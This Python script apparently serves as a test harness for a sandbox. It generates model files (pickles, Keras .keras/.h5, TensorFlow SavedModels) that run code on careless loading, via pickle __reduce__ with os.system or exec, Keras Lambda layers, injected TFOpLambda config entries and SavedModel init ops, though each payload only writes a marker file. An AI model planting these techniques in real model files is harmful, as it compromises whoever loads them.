"""Model files that run code when they are loaded carelessly. What they do is make a file called `harm` in a folder.

They need TensorFlow to be made, and are made in a process of their own: `python hostile.py FOLDER`.
"""

import json
import os
import pickle
import sys
import warnings
import zipfile
from pathlib import Path
from typing import Any

PX = 8
CODE = (
    "lambda.keras", "lambda.h5", "function.keras", "function.h5", "folder.h5", "runs_saved", "starts_saved",
    "old_saved",
)  # fmt: skip
FORMS = (*CODE, "table_saved")  # whose table does no harm, and might


class Bomb:
    """A pickle that calls a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments


def pickles(folder: Path, port: int) -> dict[str, bytes]:
    """Return pickles by what they do."""
    import socket
    import subprocess

    shell = f"echo x > '{folder}/harm'"
    return {
        "shell": pickle.dumps(Bomb(os.system, shell)),
        "program": pickle.dumps(Bomb(subprocess.check_output, ["/bin/sh", "-c", shell])),
        "write": pickle.dumps(Bomb(os.open, f"{folder}/harm", os.O_CREAT | os.O_WRONLY)),
        "folder": pickle.dumps(Bomb(os.mkdir, f"{folder}/harm")),
        "code": pickle.dumps(Bomb(exec, f"open({f'{folder}/harm'!r}, 'w').write('x')")),
        "network": pickle.dumps(Bomb(socket.create_connection, ("127.0.0.1", port), 2)),
    }


def with_layers(config: str, *functions: tuple[str, str]) -> str:
    """Return Keras 2's configuration of a network with functions of TensorFlow that stand beside it, as layers."""
    whole = json.loads(config)
    for function, target in functions:
        more = {"contents": "x", "name": None} if function == "io.write_file" else {}
        name = function.replace(".", "_")
        own = {"name": name, "trainable": True, "dtype": "float32", "function": function}
        layer = {"class_name": "TFOpLambda", "config": own, "name": name, "module": "keras.layers",
                 "registered_name": "TFOpLambda", "inbound_nodes": [["_CONSTANT_VALUE", -1, target, more]]}  # fmt: skip
        whole["config"]["layers"].append(layer)
    return json.dumps(whole)


def replaced(path: Path, name: str, change: Any) -> None:
    """Change one file of a zip archive."""
    with zipfile.ZipFile(path) as archive:
        files = {n: archive.read(n) for n in archive.namelist()}
    files[name] = change(files[name].decode()).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for n, data in files.items():
            archive.writestr(n, data)


def make(folder: Path) -> None:
    """Write one file of each kind of FORMS, and `old_good_saved`, which is harmless, into `folder`."""
    os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
    warnings.simplefilter("ignore")
    import h5py
    import tensorflow as tf
    import tf_keras

    layers, harm = tf_keras.layers, str(folder / "harm")
    scope: dict[str, Any] = {}
    exec(f"def act(x):\n    import os\n    os.system(\"echo x > '{harm}'\")\n    return x", scope)
    image = layers.Input((PX, PX, 3))
    x = layers.GlobalAveragePooling2D()(image)
    coded = tf_keras.Model(image, layers.Lambda(scope["act"], output_shape=(3,))(x))
    plain = tf_keras.Model(image, layers.Dense(3, activation="softmax")(x))
    for suffix in (".keras", ".h5"):
        coded.save(folder / f"lambda{suffix}")
        plain.save(folder / f"function{suffix}")
    plain.save(folder / "folder.h5")
    write, makedirs = ("io.write_file", harm), ("io.gfile.makedirs", harm)
    replaced(folder / "function.keras", "config.json", lambda config: with_layers(config, write))
    for name, function in (("function.h5", write), ("folder.h5", makedirs)):
        with h5py.File(folder / name, "r+") as file:
            file.attrs["model_config"] = with_layers(file.attrs["model_config"], function)
    if os.path.exists(harm):
        os.unlink(harm)  # the Lambda layer ran while it was made
    _saved_models(tf, folder, harm)
    if os.path.exists(harm):
        os.unlink(harm)


def _saved_models(tf: Any, folder: Path, harm: str) -> None:
    from tensorflow.python.trackable.resource import CapturableResource

    spec = [tf.TensorSpec((1, PX, PX, 3), tf.float32)]

    class Starts(CapturableResource):
        def _create_resource(self) -> Any:
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, shared_name="starts")

        def _initialize(self) -> None:
            tf.io.write_file(harm, "x")

    class Runs(tf.Module):  # type: ignore[misc]
        def __init__(self, started: bool = False, table: bool = False) -> None:
            super().__init__()
            self.started = Starts() if started else None
            words = tf.lookup.KeyValueTensorInitializer(["a"], tf.constant([1], tf.int64))
            self.table = tf.lookup.StaticHashTable(words, -1) if table else None

        @tf.function(input_signature=spec)
        def act(self, image: Any) -> Any:
            y = tf.nn.softmax(tf.reduce_mean(image, (1, 2)))
            if self.started is not None:
                self.started.resource_handle  # noqa: B018 (so that it is captured)
            elif self.table is not None:
                y += tf.cast(self.table.lookup(tf.constant(["a"])), tf.float32)
            else:
                tf.io.write_file(harm, "x")
            return {"y": y}

    for name, module in (("runs", Runs()), ("starts", Runs(started=True)), ("table", Runs(table=True))):
        tf.saved_model.save(module, str(folder / f"{name}_saved"), signatures={"serving_default": module.act})
    v1 = tf.compat.v1
    for name in ("old", "old_good"):
        with v1.Graph().as_default(), v1.Session() as session:
            image = v1.placeholder(tf.float32, (1, PX, PX, 3))
            y = v1.nn.softmax(v1.reduce_mean(image, (1, 2)) @ v1.get_variable("w", (3, 4)))
            session.run(v1.global_variables_initializer())
            signature = v1.saved_model.predict_signature_def({"image": image}, {"y": y})
            start = tf.io.write_file(harm, "x") if name == "old" else None
            builder = v1.saved_model.Builder(str(folder / f"{name}_saved"))
            builder.add_meta_graph_and_variables(session, ["serve"], {"serving_default": signature}, main_op=start)
            builder.save()


def load_carelessly(path: Path) -> None:
    """Load a file with everything allowed, as a script of the author's would, and ask it once."""
    import numpy as np
    import tensorflow as tf
    import tf_keras

    x = tf.constant(np.zeros((1, PX, PX, 3), np.float32))
    if path.is_dir():
        model = tf.saved_model.load(str(path))
        model.signatures["serving_default"](x)
    else:
        tf_keras.models.load_model(str(path), safe_mode=False, compile=False)(x)


def main() -> None:
    """Make the files; or, with more arguments, load them while nets hold this process: FOLDER NETS."""
    folder = Path(sys.argv[1])
    if len(sys.argv) == 2:
        make(folder)
        return
    if sys.argv[2] != "none":
        import tempfile

        from edgenet.sandbox.policy import Policy, confine

        nets = tuple(sys.argv[2].split(","))
        assert set(confine(Policy(file_bytes=None), nets)) == set(nets)
        tempfile.tempdir = "/nowhere"
    os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
    for name in FORMS:
        try:
            load_carelessly(folder / name)
            said = "loaded"
        except Exception as e:
            said = f"{type(e).__name__}: {e}"
        done = (folder / "harm").exists()
        if done:
            os.system(f"rm -r '{folder}/harm'")
        print(json.dumps([name, done, said[:300]]), flush=True)


if __name__ == "__main__":
    main()
